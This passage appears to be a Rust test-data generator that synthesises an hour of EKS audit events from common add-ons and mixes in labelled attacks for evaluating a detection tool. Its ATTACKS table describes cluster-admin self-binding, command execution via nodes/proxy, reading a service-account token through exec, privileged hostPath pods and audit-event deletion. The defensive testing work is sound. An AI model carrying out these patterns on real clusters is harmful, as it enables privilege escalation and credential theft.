//! One hour of audit events of a 20-node EKS cluster running the usual
//! add-ons, with a handful of attacks mixed in: the input for measuring how
//! much add-on noise driftwatch's allowance packs remove, and which attacks
//! still surface.
//!
//! Every periodic write comes from one row of [`AUTOMATIONS`]: who sends it
//! (identity, user agent, address), what it writes (resource, verb, object
//! names), how often (a period drawn in a range, per instance: once, or per
//! node), and the body it carries. The rates follow the components' real
//! behaviour as far as their defaults are documented:
//!
//! - client-go leader election renews its lock every `retryPeriod` (2 s for
//!   kube-controller-manager, kube-scheduler and controller-runtime managers
//!   such as Karpenter; 5 s for CSI sidecars, istiod and cert-manager's
//!   cainjector in this model; 15 s for the cert-manager controller);
//! - kubelets renew their node Lease every 10 s, patch `nodes/status` every
//!   5 min or so and `pods/status` on every container state change;
//! - cluster-autoscaler rewrites `cluster-autoscaler-status` every scan (10 s);
//! - Kyverno's admission controller touches its `kyverno-health` Lease every
//!   10 s, its reports controller rewrites PolicyReports and churns
//!   EphemeralReports;
//! - Gatekeeper's audit writes every constraint's status each 60 s;
//! - Prometheus (the community `prometheus` chart, `monitoring:prometheus-server`)
//!   scrapes each kubelet through `nodes/proxy` (`/metrics` and
//!   `/metrics/cadvisor`, verb get) every 30 s;
//! - the HPA controller updates each HPA's status every 15 s;
//! - external-dns has no lock (one replica, no leader election in its chart):
//!   it only lists Services and Ingresses every minute.
//!
//! Attacks carry the annotation `driftwatch.test/attack: <name>`; see
//! [`ATTACKS`] for what each one is. Events are `ResponseComplete` only, as
//! one `EventList` item per line (no kind/apiVersion), at the audit levels of
//! the EKS policy: `RequestResponse` for writes in kube-system and for
//! webhook/RBAC writes, `Request` for other writes, `Metadata` for reads and
//! leases.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::rc::Rc;

use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};

use crate::rng::Rng;
use crate::synth::request::{Identity, ObjRef, Request, StageKind, Status, UserInfo};
use crate::time::rfc3339_micros;

/// The cluster's nodes.
pub const NODES: usize = 20;
/// Length of the generated stream.
pub const HOUR: SignedDuration = SignedDuration::from_secs(3600);
/// The annotation that names an attack event.
pub const ATTACK_ANNOTATION: &str = "driftwatch.test/attack";

const AWS_ACCOUNT: &str = "111122223333";

/// Who sends an automation's requests.
#[derive(Debug, Clone, Copy)]
enum Who {
    /// A service account `NAMESPACE:NAME`.
    Sa(&'static str, &'static str),
    /// A control-plane user with a certificate (`system:kube-controller-manager`).
    User(&'static str),
    /// An `eks:*` user authenticated through IAM: carries `user.extra["arn"]`.
    Eks(&'static str),
    /// The kubelet of the instance's node.
    Kubelet,
}

/// Which object an automation writes.
#[derive(Debug, Clone, Copy)]
enum Obj {
    /// One named object.
    Named(&'static str),
    /// The instance's node (`nodes`) or its Lease in kube-node-lease.
    Node,
    /// A pod on the instance's node.
    PodOnNode,
    /// One of the listed names, drawn per request.
    OneOf(&'static [&'static str]),
    /// A collection (list, create with a generated name).
    Collection,
}

/// What a write carries.
#[derive(Debug, Clone, Copy)]
enum Body {
    None,
    /// A Lease renewal (update): the full Lease.
    Lease(&'static str),
    /// A leader-lock ConfigMap update: the leader annotation.
    LeaderConfigMap(&'static str),
    /// cluster-autoscaler's status ConfigMap.
    AutoscalerStatus,
    /// A strategic merge patch of `status` (conditions, heartbeat).
    StatusPatch,
    /// An update of a whole object whose only change is `status`.
    StatusUpdate,
    /// Gatekeeper audit results on a constraint.
    ConstraintStatus,
    /// A PolicyReport rewritten by Kyverno's reports controller.
    PolicyReport,
    /// cainjector's JSON patch of one webhook's caBundle.
    CaBundlePatch,
}

/// One kind of request an add-on sends all day.
#[derive(Debug, Clone, Copy)]
struct Automation {
    component: &'static str,
    who: Who,
    user_agent: &'static str,
    ip: &'static str,
    verb: &'static str,
    group: &'static str,
    version: &'static str,
    resource: &'static str,
    sub: Option<&'static str>,
    namespace: Option<&'static str>,
    obj: Obj,
    /// Seconds between two requests of one instance, drawn in this range.
    period: (f64, f64),
    per_node: bool,
    body: Body,
}

// A table row: positional arguments read as the columns of `AUTOMATIONS`.
#[allow(clippy::too_many_arguments)]
const fn a(
    component: &'static str,
    who: Who,
    user_agent: &'static str,
    ip: &'static str,
    verb: &'static str,
    gvr: (
        &'static str,
        &'static str,
        &'static str,
        Option<&'static str>,
    ),
    namespace: Option<&'static str>,
    obj: Obj,
    period: (f64, f64),
    body: Body,
) -> Automation {
    Automation {
        component,
        who,
        user_agent,
        ip,
        verb,
        group: gvr.0,
        version: gvr.1,
        resource: gvr.2,
        sub: gvr.3,
        namespace,
        obj,
        period,
        per_node: false,
        body,
    }
}

const fn per_node(mut x: Automation) -> Automation {
    x.per_node = true;
    x
}

const LEASE: (&str, &str, &str, Option<&str>) = ("coordination.k8s.io", "v1", "leases", None);
const CM: (&str, &str, &str, Option<&str>) = ("", "v1", "configmaps", None);
const KS: Option<&str> = Some("kube-system");

const KUBELET_UA: &str = "kubelet/v1.30.4-eks-a737599 (linux/amd64) kubernetes/a737599";
const KCM_UA: &str =
    "kube-controller-manager/v1.30.4 (linux/amd64) kubernetes/a737599/leader-election";
const ISTIOD_UA: &str = "pilot-discovery/1.23.2";
const CM_UA: &str = "cert-manager-controller/v1.16.1 (linux/amd64) cert-manager/2a2c8ac2e2cc";
const CAINJ_UA: &str = "cert-manager-cainjector/v1.16.1 (linux/amd64) cert-manager/2a2c8ac2e2cc";
const KYVERNO_UA: &str = "kyverno/v1.13.1 (linux/amd64) kubernetes/$Format";
const CR_UA: &str = "manager/v0.0.0 (linux/amd64) kubernetes/$Format";
const PROM_UA: &str = "Prometheus/2.54.1";
const CONTROL_PLANE_IP: &str = "10.0.0.10";
const EKS_PUBLIC_IP: &str = "35.163.244.48";

/// The add-ons' periodic requests (20 nodes; `per_node` rows run once per node).
#[rustfmt::skip]
const AUTOMATIONS: &[Automation] = &[
    // kubelets
    per_node(a("kubelet", Who::Kubelet, KUBELET_UA, "", "update", LEASE, Some("kube-node-lease"), Obj::Node, (10.0, 10.0), Body::Lease("node"))),
    per_node(a("kubelet", Who::Kubelet, KUBELET_UA, "", "patch", ("", "v1", "nodes", Some("status")), None, Obj::Node, (240.0, 330.0), Body::StatusPatch)),
    per_node(a("kubelet", Who::Kubelet, KUBELET_UA, "", "patch", ("", "v1", "pods", Some("status")), Some("shop"), Obj::PodOnNode, (20.0, 45.0), Body::StatusPatch)),
    // control plane
    a("kube-controller-manager", Who::User("system:kube-controller-manager"), KCM_UA, CONTROL_PLANE_IP, "update", LEASE, KS, Obj::Named("kube-controller-manager"), (2.0, 2.0), Body::Lease("kcm")),
    a("kube-scheduler", Who::User("system:kube-scheduler"), "kube-scheduler/v1.30.4 (linux/amd64) kubernetes/a737599/leader-election", CONTROL_PLANE_IP, "update", LEASE, KS, Obj::Named("kube-scheduler"), (2.0, 2.0), Body::Lease("sched")),
    a("kube-controller-manager", Who::Sa("kube-system", "horizontal-pod-autoscaler"), "kube-controller-manager/v1.30.4 (linux/amd64) kubernetes/a737599/system:serviceaccount:kube-system:horizontal-pod-autoscaler", CONTROL_PLANE_IP, "update", ("autoscaling", "v2", "horizontalpodautoscalers", Some("status")), Some("shop"), Obj::OneOf(&[ "api", "web", "worker", "cart", "search", "checkout", "gateway", "notifier", ]), (1.875, 1.875), Body::StatusUpdate),
    a("kube-controller-manager", Who::Sa("kube-system", "endpointslice-controller"), "kube-controller-manager/v1.30.4 (linux/amd64) kubernetes/a737599/system:serviceaccount:kube-system:endpointslice-controller", CONTROL_PLANE_IP, "update", ("discovery.k8s.io", "v1", "endpointslices", None), Some("shop"), Obj::OneOf(&["api-7xk2p", "web-9dw4n", "worker-q8z5c"]), (20.0, 40.0), Body::None),
    // cluster-autoscaler
    a("cluster-autoscaler", Who::Sa("kube-system", "cluster-autoscaler"), "cluster-autoscaler/v1.31.0 (linux/amd64) kubernetes/$Format", "10.42.1.17", "update", CM, KS, Obj::Named("cluster-autoscaler-status"), (10.0, 10.0), Body::AutoscalerStatus),
    a("cluster-autoscaler", Who::Sa("kube-system", "cluster-autoscaler"), "cluster-autoscaler/v1.31.0 (linux/amd64) kubernetes/$Format/leader-election", "10.42.1.17", "update", LEASE, KS, Obj::Named("cluster-autoscaler"), (2.0, 2.0), Body::Lease("ca")),
    // karpenter
    a("karpenter", Who::Sa("kube-system", "karpenter"), "karpenter/v1.1.0", "10.42.2.30", "update", LEASE, KS, Obj::Named("karpenter-leader-election"), (2.0, 2.0), Body::Lease("karpenter")),
    a("karpenter", Who::Sa("kube-system", "karpenter"), "karpenter/v1.1.0", "10.42.2.30", "patch", ("karpenter.sh", "v1", "nodepools", Some("status")), None, Obj::Named("default"), (55.0, 65.0), Body::StatusPatch),
    a("karpenter", Who::Sa("kube-system", "karpenter"), "karpenter/v1.1.0", "10.42.2.30", "patch", ("karpenter.sh", "v1", "nodeclaims", Some("status")), None, Obj::OneOf(&["default-8kq2w", "default-bx7rn", "default-zt4hm"]), (120.0, 400.0), Body::StatusPatch),
    // istiod
    a("istiod", Who::Sa("istio-system", "istiod"), ISTIOD_UA, "10.42.3.11", "update", CM, Some("istio-system"), Obj::OneOf(&[ "istio-leader", "istio-namespace-controller-election", "istio-gateway-status-leader", "istio-gateway-deployment-leader", ]), (1.25, 1.25), Body::LeaderConfigMap("istiod")),
    a("istiod", Who::Sa("istio-system", "istiod"), ISTIOD_UA, "10.42.3.11", "patch", ("admissionregistration.k8s.io", "v1", "mutatingwebhookconfigurations", None), None, Obj::Named("istio-sidecar-injector"), (600.0, 900.0), Body::CaBundlePatch),
    // cert-manager
    a("cert-manager", Who::Sa("cert-manager", "cert-manager"), CM_UA, "10.42.4.21", "update", LEASE, KS, Obj::Named("cert-manager-controller"), (15.0, 15.0), Body::Lease("cm")),
    a("cert-manager", Who::Sa("cert-manager", "cert-manager-cainjector"), CAINJ_UA, "10.42.4.22", "update", LEASE, KS, Obj::OneOf(&[ "cert-manager-cainjector-leader-election", "cert-manager-cainjector-leader-election-core", ]), (2.5, 2.5), Body::Lease("cainjector")),
    a("cert-manager", Who::Sa("cert-manager", "cert-manager-cainjector"), CAINJ_UA, "10.42.4.22", "patch", ("admissionregistration.k8s.io", "v1", "validatingwebhookconfigurations", None), None, Obj::OneOf(&[ "cert-manager-webhook", "kyverno-resource-validating-webhook-cfg", ]), (900.0, 1500.0), Body::CaBundlePatch),
    // ingress-nginx
    a("ingress-nginx", Who::Sa("ingress-nginx", "ingress-nginx"), "nginx-ingress-controller/v1.11.2 (linux/amd64) ingress-nginx/46e76e5", "10.42.5.8", "update", LEASE, Some("ingress-nginx"), Obj::Named("ingress-nginx-leader"), (2.0, 2.0), Body::Lease("nginx")),
    a("ingress-nginx", Who::Sa("ingress-nginx", "ingress-nginx"), "nginx-ingress-controller/v1.11.2 (linux/amd64) ingress-nginx/46e76e5", "10.42.5.8", "update", ("networking.k8s.io", "v1", "ingresses", Some("status")), Some("shop"), Obj::OneOf(&["api", "web", "checkout", "search"]), (300.0, 900.0), Body::StatusUpdate),
    // external-dns: reads only
    a("external-dns", Who::Sa("external-dns", "external-dns"), "external-dns/v0.15.0", "10.42.5.19", "list", ("", "v1", "services", None), None, Obj::Collection, (60.0, 60.0), Body::None),
    a("external-dns", Who::Sa("external-dns", "external-dns"), "external-dns/v0.15.0", "10.42.5.19", "list", ("networking.k8s.io", "v1", "ingresses", None), None, Obj::Collection, (60.0, 60.0), Body::None),
    // kyverno
    a("kyverno", Who::Sa("kyverno", "kyverno-admission-controller"), KYVERNO_UA, "10.42.6.5", "update", LEASE, Some("kyverno"), Obj::Named("kyverno"), (2.0, 5.0), Body::Lease("kyverno")),
    a("kyverno", Who::Sa("kyverno", "kyverno-admission-controller"), KYVERNO_UA, "10.42.6.5", "update", LEASE, Some("kyverno"), Obj::Named("kyverno-health"), (10.0, 10.0), Body::Lease("kyverno-health")),
    a("kyverno", Who::Sa("kyverno", "kyverno-background-controller"), KYVERNO_UA, "10.42.6.6", "update", LEASE, Some("kyverno"), Obj::Named("kyverno-background-controller"), (2.0, 5.0), Body::Lease("kyverno-bg")),
    a("kyverno", Who::Sa("kyverno", "kyverno-reports-controller"), KYVERNO_UA, "10.42.6.7", "update", LEASE, Some("kyverno"), Obj::Named("kyverno-reports-controller"), (2.0, 5.0), Body::Lease("kyverno-reports")),
    a("kyverno", Who::Sa("kyverno", "kyverno-reports-controller"), KYVERNO_UA, "10.42.6.7", "update", ("wgpolicyk8s.io", "v1alpha2", "policyreports", None), Some("shop"), Obj::OneOf(&["6f1d2c4e-api", "a81c33b0-web", "0d7e9f12-worker"]), (15.0, 25.0), Body::PolicyReport),
    a("kyverno", Who::Sa("kyverno", "kyverno-admission-controller"), KYVERNO_UA, "10.42.6.5", "create", ("reports.kyverno.io", "v1", "ephemeralreports", None), Some("shop"), Obj::Collection, (4.0, 8.0), Body::PolicyReport),
    a("kyverno", Who::Sa("kyverno", "kyverno-reports-controller"), KYVERNO_UA, "10.42.6.7", "delete", ("reports.kyverno.io", "v1", "ephemeralreports", None), Some("shop"), Obj::OneOf(&[ "0a5f2c91-1b2d-4c3e-9f00-3e2d1c0b9a87", "7c1e4b22-8d3f-4a5b-b6c7-d8e9f0a1b2c3", ]), (4.0, 8.0), Body::None),
    // gatekeeper
    a("gatekeeper", Who::Sa("gatekeeper-system", "gatekeeper-admin"), CR_UA, "10.42.7.3", "update", ("constraints.gatekeeper.sh", "v1beta1", "k8srequiredlabels", Some("status")), None, Obj::OneOf(&["ns-must-have-owner", "deploy-must-have-app"]), (30.0, 30.0), Body::ConstraintStatus),
    a("gatekeeper", Who::Sa("gatekeeper-system", "gatekeeper-admin"), CR_UA, "10.42.7.3", "update", ("constraints.gatekeeper.sh", "v1beta1", "k8spspprivilegedcontainer", Some("status")), None, Obj::OneOf(&[ "psp-privileged-container", "psp-host-namespace", "psp-host-filesystem", "psp-allowed-repos", ]), (15.0, 15.0), Body::ConstraintStatus),
    a("gatekeeper", Who::Sa("gatekeeper-system", "gatekeeper-admin"), CR_UA, "10.42.7.4", "update", ("status.gatekeeper.sh", "v1beta1", "constraintpodstatuses", None), Some("gatekeeper-system"), Obj::OneOf(&[ "gatekeeper--controller--manager--6d9c--k8srequiredlabels--ns-must-have-owner", "gatekeeper--audit--5b7f--k8spspprivilegedcontainer--psp-privileged-container", ]), (30.0, 60.0), Body::StatusUpdate),
    // prometheus and its operator
    per_node(a("prometheus", Who::Sa("monitoring", "prometheus-server"), PROM_UA, "10.42.8.14", "get", ("", "v1", "nodes", Some("proxy")), None, Obj::Node, (30.0, 30.0), Body::None)),
    per_node(a("prometheus", Who::Sa("monitoring", "prometheus-server"), PROM_UA, "10.42.8.14", "get", ("", "v1", "nodes", Some("proxy")), None, Obj::Node, (30.0, 30.0), Body::None)),
    a("prometheus-operator", Who::Sa("monitoring", "kube-prometheus-stack-operator"), "PrometheusOperator/0.77.1", "10.42.8.9", "update", ("", "v1", "endpoints", None), KS, Obj::Named("kube-prometheus-stack-kubelet"), (180.0, 180.0), Body::None),
    a("prometheus-operator", Who::Sa("monitoring", "kube-prometheus-stack-operator"), "PrometheusOperator/0.77.1", "10.42.8.9", "patch", ("monitoring.coreos.com", "v1", "prometheuses", Some("status")), Some("monitoring"), Obj::Named("kube-prometheus-stack-prometheus"), (240.0, 360.0), Body::StatusPatch),
    // metrics-server: reads only (it scrapes kubelets directly)
    a("metrics-server", Who::Sa("kube-system", "metrics-server"), "metrics-server/v0.7.2 (linux/amd64) kubernetes/$Format", "10.42.0.31", "list", ("", "v1", "nodes", None), None, Obj::Collection, (300.0, 600.0), Body::None),
    // linkerd
    a("linkerd", Who::Sa("linkerd", "linkerd-destination"), "policy-controller/stable-2.16.1", "10.42.9.2", "patch", LEASE, Some("linkerd"), Obj::Named("policy-controller-write"), (10.0, 10.0), Body::Lease("linkerd")),
    // aws-ebs-csi
    a("aws-ebs-csi", Who::Sa("kube-system", "ebs-csi-controller-sa"), "csi-provisioner/v5.1.0 (linux/amd64) kubernetes/$Format", "10.42.1.40", "update", LEASE, KS, Obj::Named("ebs-csi-aws-com"), (5.0, 5.0), Body::Lease("ebs-prov")),
    a("aws-ebs-csi", Who::Sa("kube-system", "ebs-csi-controller-sa"), "csi-attacher/v4.7.0 (linux/amd64) kubernetes/$Format", "10.42.1.40", "update", LEASE, KS, Obj::Named("external-attacher-leader-ebs-csi-aws-com"), (5.0, 5.0), Body::Lease("ebs-att")),
    a("aws-ebs-csi", Who::Sa("kube-system", "ebs-csi-controller-sa"), "csi-resizer/v1.12.0 (linux/amd64) kubernetes/$Format", "10.42.1.40", "update", LEASE, KS, Obj::Named("external-resizer-ebs-csi-aws-com"), (5.0, 5.0), Body::Lease("ebs-res")),
    a("aws-ebs-csi", Who::Sa("kube-system", "ebs-csi-controller-sa"), "csi-attacher/v4.7.0 (linux/amd64) kubernetes/$Format", "10.42.1.40", "patch", ("storage.k8s.io", "v1", "volumeattachments", Some("status")), None, Obj::OneOf(&[ "csi-3f9a1c0e5b7d2f4a6c8e0b1d3f5a7c9e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a", "csi-8b2d4f6a0c1e3b5d7f9a2c4e6b8d0f1a3c5e7b9d1f3a5c7e9b1d3f5a7c9e1b3d", ]), (600.0, 1200.0), Body::StatusPatch),
    // EKS managed components
    a("eks", Who::Eks("eks:certificate-controller"), "eks-certificates-controller/v0.0.0 (linux/amd64) kubernetes/$Format", EKS_PUBLIC_IP, "update", CM, KS, Obj::Named("eks-certificates-controller"), (2.0, 5.0), Body::LeaderConfigMap("eks-certificates-controller")),
    a("eks", Who::Eks("eks:cloud-controller-manager"), "aws-cloud-controller-manager/v1.30.3 (linux/amd64) kubernetes/$Format/leader-election", EKS_PUBLIC_IP, "update", LEASE, KS, Obj::Named("cloud-controller-manager"), (2.0, 2.0), Body::Lease("ccm")),
    a("eks", Who::Eks("eks:vpc-resource-controller"), "controller/v0.0.0 (linux/amd64) kubernetes/$Format", EKS_PUBLIC_IP, "update", LEASE, KS, Obj::Named("cp-vpc-resource-controller"), (5.0, 5.0), Body::Lease("vpcrc")),
    a("eks", Who::Eks("eks:k8s-metrics"), "eks-k8s-metrics/v0.0.0", EKS_PUBLIC_IP, "list", ("", "v1", "pods", None), None, Obj::Collection, (60.0, 60.0), Body::None),
    a("eks", Who::Eks("eks:addon-manager"), "Go-http-client/1.1", EKS_PUBLIC_IP, "get", ("apps", "v1", "deployments", None), KS, Obj::Named("coredns"), (600.0, 600.0), Body::None),
];

/// The attacks mixed into the hour: (name, what it is).
pub const ATTACKS: &[(&str, &str)] = &[
    (
        "istiod-crb-cluster-admin",
        "istiod's service account creates a ClusterRoleBinding of cluster-admin to itself",
    ),
    (
        "prometheus-nodes-proxy-run",
        "prometheus-server's account runs a command in a pod through the kubelet (nodes/proxy/run, verb create)",
    ),
    (
        "cainjector-webhook-url",
        "cainjector's account points a validating webhook at an external URL (clientConfig.url)",
    ),
    (
        "privileged-pod-hostpath",
        "a person creates a privileged pod with hostPID and hostPath / (with groups)",
    ),
    (
        "privileged-pod-no-groups",
        "the same pod, the user logged GKE-style without groups",
    ),
    (
        "exec-sa-token",
        "kubectl exec cat of the pod's service-account token",
    ),
    (
        "kcm-lease-takeover",
        "a non-system user takes over kube-controller-manager's leader Lease",
    ),
    (
        "delete-kube-system-events",
        "a person deletes the Events of kube-system (deletecollection)",
    ),
    (
        "leader-lock-hijack",
        "another identity changes the holder of istiod's istio-leader ConfigMap",
    ),
    ("anonymous-write", "system:anonymous creates a ConfigMap"),
];

/// One generated event.
#[derive(Debug, Clone)]
pub struct AddonEvent {
    pub at: Timestamp,
    pub component: &'static str,
    pub username: String,
    pub verb: &'static str,
    pub attack: Option<&'static str>,
    /// The event, as one `EventList` item.
    pub json: String,
}

/// Counts per component and per (username, verb).
#[derive(Debug, Clone, Default)]
pub struct AddonMix {
    pub by_component: BTreeMap<&'static str, u64>,
    pub by_identity_verb: BTreeMap<(String, &'static str), u64>,
    pub attacks: u64,
}

impl AddonMix {
    pub fn of(events: &[AddonEvent]) -> AddonMix {
        let mut mix = AddonMix::default();
        for e in events {
            *mix.by_component.entry(e.component).or_default() += 1;
            *mix.by_identity_verb
                .entry((e.username.clone(), e.verb))
                .or_default() += 1;
            mix.attacks += u64::from(e.attack.is_some());
        }
        mix
    }

    pub fn report(&self) -> String {
        let total: u64 = self.by_component.values().sum();
        let mut s = format!(
            "{total} events in one hour, {} attacks\nper component:\n",
            self.attacks
        );
        for (c, n) in &self.by_component {
            let _ = writeln!(s, "  {c:<24} {n:>7}");
        }
        s.push_str("per identity and verb:\n");
        for ((u, v), n) in &self.by_identity_verb {
            let _ = writeln!(s, "  {u:<64} {v:<17} {n:>7}");
        }
        s
    }
}

/// The hour's events in time order; the same seed gives the same events.
pub fn hour(seed: u64) -> Vec<AddonEvent> {
    Hour::new(seed).run()
}

struct Hour {
    rng: Rng,
    start: Timestamp,
    rv: u64,
    nodes: Vec<String>,
    idents: BTreeMap<String, Rc<Identity>>,
}

impl Hour {
    fn new(seed: u64) -> Hour {
        let mut rng = Rng::new(seed);
        let nodes = (0..NODES)
            .map(|i| {
                format!(
                    "ip-10-0-{}-{}.us-west-2.compute.internal",
                    16 + i / 8,
                    20 + rng.below(200) + i as u64
                )
            })
            .collect();
        Hour {
            rng,
            start: crate::time::utc(2026, 11, 20, 10),
            rv: 73_004_112,
            nodes,
            idents: BTreeMap::new(),
        }
    }

    fn run(mut self) -> Vec<AddonEvent> {
        let mut due: Vec<(SignedDuration, usize, usize)> = Vec::new();
        for (row, auto) in AUTOMATIONS.iter().enumerate() {
            for instance in 0..if auto.per_node { NODES } else { 1 } {
                let mut t = secs(auto.period.1 * self.unit());
                while t < HOUR {
                    due.push((t, row, instance));
                    let (lo, hi) = auto.period;
                    t += secs(lo + (hi - lo) * self.unit());
                }
            }
        }
        due.sort_by_key(|d| (d.0, d.1, d.2));
        let mut out: Vec<AddonEvent> = due
            .into_iter()
            .map(|(t, row, instance)| self.periodic(&AUTOMATIONS[row], row, instance, t))
            .collect();
        out.extend(self.attacks());
        out.sort_by_key(|e| e.at);
        out
    }

    fn unit(&mut self) -> f64 {
        self.rng.below(1_000_000) as f64 / 1_000_000.0
    }

    fn next_rv(&mut self) -> String {
        self.rv += 1 + self.rng.below(9);
        self.rv.to_string()
    }

    fn identity(&mut self, who: Who, node: usize, user_agent: &str, ip: &str) -> Rc<Identity> {
        let key = format!("{who:?}/{node}/{user_agent}");
        if let Some(i) = self.idents.get(&key) {
            return Rc::clone(i);
        }
        let (username, groups, extra, reason) = match who {
            Who::Sa(ns, name) => (
                format!("system:serviceaccount:{ns}:{name}"),
                vec![
                    "system:serviceaccounts".to_owned(),
                    format!("system:serviceaccounts:{ns}"),
                    "system:authenticated".to_owned(),
                ],
                BTreeMap::new(),
                format!(
                    "RBAC: allowed by ClusterRoleBinding \"{name}\" of ClusterRole \"{name}\" to ServiceAccount \"{name}/{ns}\""
                ),
            ),
            Who::User(name) => (
                name.to_owned(),
                vec!["system:authenticated".to_owned()],
                BTreeMap::new(),
                String::new(),
            ),
            Who::Kubelet => (
                format!("system:node:{}", self.nodes[node]),
                vec!["system:nodes".to_owned(), "system:authenticated".to_owned()],
                BTreeMap::new(),
                String::new(),
            ),
            Who::Eks(name) => {
                let role = format!("AWSServiceRoleForAmazonEKS-{}", &name[4..]);
                let session = (1_700_000_000_000_000_000u64 + self.rng.below(1 << 40)).to_string();
                let mut extra = BTreeMap::new();
                extra.insert(
                    "accessKeyId".to_owned(),
                    vec![format!("ASIA{}", self.rng.hex(16).to_uppercase())],
                );
                extra.insert(
                    "arn".to_owned(),
                    vec![format!(
                        "arn:aws:sts::{AWS_ACCOUNT}:assumed-role/{role}/{session}"
                    )],
                );
                extra.insert(
                    "canonicalArn".to_owned(),
                    vec![format!(
                        "arn:aws:iam::{AWS_ACCOUNT}:role/aws-service-role/eks.amazonaws.com/{role}"
                    )],
                );
                extra.insert("sessionName".to_owned(), vec![session]);
                (
                    name.to_owned(),
                    vec!["system:authenticated".to_owned()],
                    extra,
                    format!(
                        "RBAC: allowed by ClusterRoleBinding \"{name}\" of ClusterRole \"{name}\" to User \"{name}\""
                    ),
                )
            }
        };
        let uid = match who {
            Who::Eks(_) => Some(format!(
                "aws-iam-authenticator:{AWS_ACCOUNT}:AROA{}",
                self.rng.hex(17).to_uppercase()
            )),
            _ => None,
        };
        let ip = if ip.is_empty() {
            format!("10.0.{}.{}", 16 + node / 8, 20 + node)
        } else {
            ip.to_owned()
        };
        let ident = Rc::new(Identity {
            user: UserInfo {
                username,
                uid,
                groups,
                extra,
            },
            user_agent: user_agent.to_owned(),
            source_ip: ip,
            allow_reason: reason,
        });
        self.idents.insert(key, Rc::clone(&ident));
        ident
    }

    fn periodic(
        &mut self,
        auto: &Automation,
        row: usize,
        instance: usize,
        t: SignedDuration,
    ) -> AddonEvent {
        let node = &self.nodes[instance].clone();
        let name = match auto.obj {
            Obj::Named(n) => Some(n.to_owned()),
            Obj::Node => Some(node.clone()),
            Obj::PodOnNode => Some(format!("api-7d9f8b6c5d-{}", self.rng.suffix(5))),
            Obj::OneOf(names) => Some((*self.rng.pick(names)).to_owned()),
            Obj::Collection => None,
        };
        let ident = self.identity(auto.who, instance, auto.user_agent, auto.ip);
        let mut uri = collection_uri(auto.group, auto.version, auto.resource, auto.namespace);
        if let Some(n) = name.as_ref().filter(|_| auto.verb != "create") {
            let _ = write!(uri, "/{n}");
        }
        if let Some(sub) = auto.sub {
            let _ = write!(uri, "/{sub}");
        }
        if auto.sub == Some("proxy") {
            // Two scrape jobs per node: kubelet metrics and cAdvisor.
            uri.push_str(if row.is_multiple_of(2) {
                "/metrics"
            } else {
                "/metrics/cadvisor"
            });
        }
        if auto.verb == "list" {
            uri.push_str("?limit=500&resourceVersion=0");
        }
        let mut o = ObjRef::new(auto.resource, auto.group);
        o.api_version = auto.version;
        if let Some(ns) = auto.namespace {
            o = o.ns(ns);
        }
        if let Some(n) = &name {
            o = o.name(n.clone());
        }
        if let Some(sub) = auto.sub {
            o = o.sub(sub);
        }
        // One replica holds a lock for the hour: a real holder changes only on a failover.
        let holder = format!("{}-0", auto.component);
        let (level, req, resp) = self.body(auto, name.as_deref().unwrap_or(""), &holder, t);
        let mut r = self.request(&ident, auto.verb, uri, o, t);
        r.level = level;
        r.request_object = req;
        r.response_object = resp;
        if auto.verb == "create" {
            r.status = Status::ok(201);
        }
        AddonEvent {
            at: r.received + r.latency,
            component: auto.component,
            username: ident.username().to_owned(),
            verb: auto.verb,
            attack: None,
            json: r.render(StageKind::ResponseComplete),
        }
    }

    fn request(
        &mut self,
        user: &Rc<Identity>,
        verb: &'static str,
        uri: String,
        o: ObjRef,
        t: SignedDuration,
    ) -> Request {
        let latency = SignedDuration::from_micros(800 + self.rng.below(9000) as i64);
        Request {
            level: "Metadata",
            audit_id: self.rng.uuid(),
            uri,
            verb,
            user: Rc::clone(user),
            object_ref: o,
            status: Status::ok(200),
            request_object: None,
            response_object: None,
            received: self.start + t,
            latency,
            extra_annotations: Vec::new(),
        }
    }

    /// The audit level and the request/response objects of a write.
    fn body(
        &mut self,
        auto: &Automation,
        name: &str,
        holder: &str,
        t: SignedDuration,
    ) -> (&'static str, Option<Value>, Option<Value>) {
        let now = rfc3339_micros(self.start + t);
        let ns = auto.namespace.unwrap_or("");
        let rv = self.next_rv();
        let meta =
            json!({"name": name, "namespace": ns, "uid": self.rng.uuid(), "resourceVersion": rv});
        let rr = |obj: Value| ("RequestResponse", Some(obj.clone()), Some(obj));
        match auto.body {
            Body::None => ("Metadata", None, None),
            Body::Lease(who) => (
                "Metadata",
                None,
                Some(json!({
                    "kind": "Lease", "apiVersion": "coordination.k8s.io/v1", "metadata": meta,
                    "spec": {"holderIdentity": format!("{who}-{holder}"), "leaseDurationSeconds": 15, "renewTime": now}
                })),
            ),
            Body::LeaderConfigMap(who) => {
                let record = format!(
                    "{{\"holderIdentity\":\"{who}-{holder}\",\"leaseDurationSeconds\":30,\"acquireTime\":\"2026-11-20T08:01:12Z\",\"renewTime\":\"{}\",\"leaderTransitions\":3}}",
                    &now[..19]
                );
                rr(
                    json!({"kind": "ConfigMap", "apiVersion": "v1", "metadata": {
                    "name": name, "namespace": ns, "resourceVersion": rv,
                    "annotations": {"control-plane.alpha.kubernetes.io/leader": record}}}),
                )
            }
            Body::AutoscalerStatus => rr(json!({"kind": "ConfigMap", "apiVersion": "v1",
                "metadata": {"name": name, "namespace": ns, "resourceVersion": rv,
                    "annotations": {"cluster-autoscaler.kubernetes.io/last-updated": now}},
                "data": {"status": format!("time: {now}\nautoscalerStatus: Running\nclusterWide:\n  health:\n    status: Healthy\n    nodeCounts:\n      registered:\n        total: {NODES}\n        ready: {NODES}\n")}})),
            Body::StatusPatch => (
                "Request",
                Some(json!({"status": {"conditions": [
                {"type": "Ready", "status": "True", "lastHeartbeatTime": &now[..19]}]}})),
                None,
            ),
            Body::StatusUpdate => (
                "Request",
                Some(
                    json!({"metadata": meta, "status": {"observedGeneration": 4, "lastUpdateTime": &now[..19]}}),
                ),
                None,
            ),
            Body::ConstraintStatus => {
                let labels = if name.starts_with("psp") {
                    json!({"app.kubernetes.io/managed-by": "Helm", "helm.sh/chart": "gatekeeper-library-0.5.1"})
                } else {
                    json!({"kustomize.toolkit.fluxcd.io/name": "policies", "kustomize.toolkit.fluxcd.io/namespace": "flux-system"})
                };
                let violations = self.rng.below(4);
                (
                    "Request",
                    Some(
                        json!({"apiVersion": "constraints.gatekeeper.sh/v1beta1", "kind": "K8sPSP",
                    "metadata": {"name": name, "labels": labels, "resourceVersion": rv},
                    "status": {"auditTimestamp": &now[..19], "totalViolations": violations, "byPod": [
